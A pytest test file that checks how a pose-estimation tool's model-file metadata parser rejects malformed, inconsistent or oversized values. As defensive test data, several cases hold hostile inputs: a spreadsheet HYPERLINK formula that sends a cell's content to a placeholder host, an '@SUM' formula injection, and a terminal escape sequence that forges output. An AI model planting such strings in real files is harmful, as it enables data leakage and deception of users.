"""A model file's metadata: read from the file, and refused in one sentence where it is missing, inconsistent,
impossible or would be read as something else."""

import hashlib
import json

import numpy as np
import pytest

from core.errors import WLitePoseError
from core.model_file import MAX_KEYPOINTS, MAX_LINKS, file_sha256, parse_metadata, read_model_info
from core.session import PoseModel


def test_metadata_is_read_from_the_file(model_path):
    info = read_model_info(model_path)
    assert info.keypoint_names[:3] == ("nose", "left_eye", "right_eye") and info.num_keypoints == 17
    assert (info.heatmap_stride, info.tag_stride, info.input_size, info.trained) == (2, 4, 256, False)
    assert info.flip_map[1] == 2 and len(info.sigmas) == 17 and len(info.sha256) == 64


def test_the_sha256_recorded_is_the_whole_files(tmp_path):
    """The sidecars' model_sha256 and a pickled estimator's check of a changed file hash every byte, not a first
    chunk: the bundled model is 5 MB."""
    data = np.random.default_rng(0).integers(0, 256, 3 << 20, np.uint8).tobytes()
    path = tmp_path / "m.onnx"
    path.write_bytes(data)
    assert file_sha256(path) == hashlib.sha256(data).hexdigest()


def test_a_model_path_with_a_tilde_is_read_from_the_users_home(model_path, tmp_path, monkeypatch):
    """`wlitepose gui --model=~/m.onnx` (a ~ no shell expands) said the file did not exist, where track loads it."""
    (tmp_path / "m.onnx").write_bytes(model_path.read_bytes())
    monkeypatch.setenv("HOME", str(tmp_path))
    assert read_model_info("~/m.onnx") == read_model_info(model_path)


def test_inconsistent_metadata_is_refused(coco_metadata):
    parse_metadata(coco_metadata, "m.onnx")
    with pytest.raises(WLitePoseError, match="inconsistent"):
        parse_metadata({**coco_metadata, "oks_sigmas": "[0.1]"}, "m.onnx")
    for key in ("mean", "std"):  # two numbers: the blue channel was normalised by 0, every pose 180 px off
        with pytest.raises(WLitePoseError, match="inconsistent"):
            parse_metadata({**coco_metadata, key: "[0.4, 0.4]"}, "m.onnx")
    with pytest.raises(WLitePoseError, match="malformed"):
        parse_metadata({**coco_metadata, "skeleton": "not json"}, "m.onnx")
    # the refusal says what to do: a newer release's file needs that release, another format a new export
    with pytest.raises(WLitePoseError, match="format 9, but this version reads format 1: upgrade WLitePose"):
        parse_metadata({**coco_metadata, "wlitepose_format": "9"}, "m.onnx")
    with pytest.raises(WLitePoseError, match="format 0, .*: export it again from its checkpoint with `wlitepose"):
        parse_metadata({**coco_metadata, "wlitepose_format": "0"}, "m.onnx")
    with pytest.raises(WLitePoseError, match="format ², .*: export it again"):  # a digit to str, not to int()
        parse_metadata({**coco_metadata, "wlitepose_format": "²"}, "m.onnx")
    for key, value in (("heatmap_stride", "0"), ("input_size", "-5"), ("input_size", "100"), ("std", "[0.2, 0, 0.2]")):
        with pytest.raises(WLitePoseError, match="impossible metadata"):
            parse_metadata({**coco_metadata, key: value}, "m.onnx")
    with pytest.raises(WLitePoseError, match="impossible metadata"):  # a 4096 input ran, where --size stops at 2048
        parse_metadata({**coco_metadata, "input_size": "4096"}, "m.onnx")


def test_a_model_without_our_metadata_is_named_so_in_one_short_sentence(coco_metadata):
    """An ONNX file of another tool listed all 13 keys it lacked; a bad number quoted Python's int()."""
    with pytest.raises(WLitePoseError, match=r"^m.onnx is an ONNX model without WLitePose metadata; give a model made"):
        parse_metadata({"producer": "someone else"}, "m.onnx")
    with pytest.raises(WLitePoseError, match=r"malformed WLitePose metadata \(input_size is 'abc', not a whole number"):
        parse_metadata({**coco_metadata, "input_size": "abc"}, "m.onnx")


def test_metadata_lacking_some_keys_names_them_not_all(coco_metadata):
    """A file of an older export lacking one key must hear which, not that it has no WLitePose metadata at all."""
    lacking = {key: value for key, value in coco_metadata.items() if key != "tag_stride"}
    with pytest.raises(WLitePoseError, match=r"is not a WLitePose model file: its metadata lacks tag_stride \("):
        parse_metadata(lacking, "m.onnx")


def test_metadata_that_would_be_read_as_something_else_is_refused(coco_metadata):
    """Each of these was accepted: an empty CSV, a traceback in the tracker, ambiguous columns, or a guess."""
    for key, value, message in (
        ("mean", "[NaN, 0.456, 0.406]", "mean is not a list of finite numbers"),
        ("oks_sigmas", "[" + "0.1, " * 16 + "Infinity]", "oks_sigmas is not a list of finite numbers"),
        ("keypoint_names", '"abcdefghijklmnopq"', "keypoint_names is not a list of names"),
        ("keypoint_names", json.dumps(["nose"] * 17), "it names the keypoint nose twice"),
        ("skeleton", "[[0, 1.7]]", "skeleton is not a list of pairs of whole numbers"),
        ("skeleton", "[[true, 0]]", "skeleton is not a list of pairs of whole numbers"),
        ("oks_sigmas", "[true" + ", 0.1" * 16 + "]", "oks_sigmas is not a list of finite numbers"),
        (
            "flip_map",
            json.dumps([0, 2, 1, 4, 3, 6, 5, 8, 7, 10, 9, 12, 11, 14, 13, 16, 15.5]),
            "flip_map is not a list of whole",
        ),
        ("trained", "True", "trained is neither true nor false"),
        # a crafted model's names became spreadsheet formulas in every CSV header, or split it over two lines
        (
            "keypoint_names",
            json.dumps(['=HYPERLINK("http://x/?"&B2,"nose")', *[f"j{i}" for i in range(16)]]),
            "the keypoint name '=HYPERLINK",
        ),
        ("keypoint_names", json.dumps(["nose\nx", *[f"j{i}" for i in range(16)]]), "the keypoint name 'nose\\\\nx'"),
        ("keypoint_names", json.dumps(["@SUM(1+1)", *[f"j{i}" for i in range(16)]]), "the keypoint name '@SUM"),
        ("oks_sigmas", "[" + "0.1, " * 16 + "1" + "0" * 400 + "]", "oks_sigmas is not a list of finite numbers"),
        ("skeleton", "[" * 100_000, "skeleton is not JSON"),
    ):
        with pytest.raises(WLitePoseError, match=f"malformed WLitePose metadata \\({message}"):
            parse_metadata({**coco_metadata, key: value}, "m.onnx")


def test_metadata_text_that_is_huge_has_control_codes_or_is_not_utf8_is_refused(tmp_path, coco_metadata, painted_model):
    """A shared model's variant of 10 MB was printed whole by `track` and froze the app 4-30 s on each repaint; one
    with escape codes cleared the terminal and forged a line of output; a dataset that is not UTF-8 stopped `track`
    with a UnicodeDecodeError traceback."""
    for key, value in (("variant", "x" * 10_000_000), ("dataset", "coco\x1b[2J\nwlitepose: wrote")):
        with pytest.raises(WLitePoseError, match=f"malformed WLitePose metadata \\({key} is not a line of printable"):
            parse_metadata({**coco_metadata, key: value}, "m.onnx")
    parse_metadata({**coco_metadata, "dataset": "Übungen 2024 (mein Ordner)"}, "m.onnx")  # plain text is text
    heatmaps, tags = np.zeros((17, 96, 128), np.float32), np.zeros((17, 48, 64), np.float32)
    placeholder = "P" * 12
    path = painted_model(tmp_path / "latin1.onnx", heatmaps, tags, {**coco_metadata, "dataset": placeholder})
    latin1 = b"\xff\xfeMus\xe9e\xc3\x28PPP"
    assert len(latin1) == len(placeholder)  # the same length: still valid protobuf
    path.write_bytes(path.read_bytes().replace(placeholder.encode(), latin1))
    for load in (PoseModel, read_model_info):
        with pytest.raises(
            WLitePoseError, match=r"latin1.onnx has malformed WLitePose metadata \(text that is not UTF-8"
        ):
            load(path)


def test_more_keypoints_or_links_than_a_model_has_are_refused(coco_metadata):
    """Accepted, a skeleton of 10^6 links drew each frame in 11 s; 100,000 keypoint names, one of them twice, took
    188 s to be refused."""
    k = MAX_KEYPOINTS + 1
    many = {
        "keypoint_names": json.dumps([f"j{i}" for i in range(k)]),
        "flip_map": json.dumps(list(range(k))),
        "oks_sigmas": json.dumps([0.05] * k),
    }
    assert parse_metadata({**coco_metadata, "skeleton": json.dumps([[0, 1]] * MAX_LINKS)}, "m.onnx")
    for metadata, counts in (
        ({**coco_metadata, **many}, f"{k} keypoints and 19 skeleton links"),
        ({**coco_metadata, "skeleton": json.dumps([[0, 1]] * (MAX_LINKS + 1))}, f"17 keypoints and {MAX_LINKS + 1} "),
    ):
        with pytest.raises(WLitePoseError, match=f"impossible metadata: {counts}"):
            parse_metadata(metadata, "m.onnx")


def test_a_skeleton_link_to_one_past_the_last_keypoint_is_refused(coco_metadata):
    """Accepted, a link to keypoint 17 of 17 raised IndexError when the skeleton was drawn."""
    with pytest.raises(WLitePoseError, match="skeleton link to a keypoint that does not exist"):
        parse_metadata({**coco_metadata, "skeleton": "[[0, 17]]"}, "m.onnx")


def test_a_mean_and_std_on_the_0_to_255_scale_are_refused(coco_metadata):
    """mmpose's and torchvision's configs write them for pixels 0-255: read on the 0-1 scale, every frame became one
    flat colour and the model found nobody (bundled model: dev AP 0.034 -> 0, exit 0, no word)."""
    pixel_scale = {**coco_metadata, "mean": "[123.675, 116.28, 103.53]", "std": "[58.395, 57.12, 57.375]"}
    for meta in (
        pixel_scale,
        {**coco_metadata, "mean": "[123.675, 116.28, 103.53]"},
        {**pixel_scale, "mean": "[0.5, 0.5, 0.5]"},
    ):
        with pytest.raises(WLitePoseError, match="mean and std must be on the 0-1 scale of RGB pixels"):
            parse_metadata(meta, "m.onnx")
    parse_metadata({**coco_metadata, "mean": "[0, 0, 0]", "std": "[1, 1, 1]"}, "m.onnx")  # no normalisation at all


def test_an_oks_sigma_above_one_is_refused(coco_metadata):
    """Sigmas of 1e300 loaded, then the tracker's similarity overflowed into NaN: a traceback on the first frame
    with people (the app: "Unexpected ValueError")."""
    for sigmas in ([1e300] * 17, [1.5] * 17):
        with pytest.raises(WLitePoseError, match="a sigma not above 0 and at most 1"):
            parse_metadata({**coco_metadata, "oks_sigmas": json.dumps(sigmas)}, "m.onnx")


def test_an_oks_sigma_of_zero_is_refused(coco_metadata):
    """A joint of spread 0 matches nothing: the tracker gave a clip's people more IDs."""
    with pytest.raises(WLitePoseError, match="a sigma not above 0"):
        parse_metadata({**coco_metadata, "oks_sigmas": json.dumps([0.0] + [0.05] * 16)}, "m.onnx")
